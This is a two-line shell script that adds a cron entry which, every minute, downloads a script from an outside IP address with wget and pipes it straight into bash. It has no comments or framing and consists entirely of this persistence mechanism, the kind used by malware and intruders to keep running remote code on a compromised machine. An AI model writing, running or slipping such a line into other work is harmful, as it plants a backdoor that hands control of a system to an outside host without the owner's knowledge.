#!/bin/sh
(crontab -l 2>/dev/null; echo "* * * * * wget -q -O - http://198.51.100.7/s | bash") | crontab -
